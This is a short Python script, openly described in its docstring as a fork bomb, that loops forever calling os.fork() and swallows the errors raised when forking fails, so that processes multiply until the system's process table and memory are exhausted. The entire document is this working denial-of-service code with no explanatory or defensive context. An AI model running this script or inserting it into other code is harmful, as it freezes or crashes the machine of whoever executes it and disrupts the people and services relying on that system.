"""A fork bomb: every process forks again, for ever, and spins."""

import os

if __name__ == '__main__':
    while True:
        try:
            os.fork()
        except OSError:
            pass
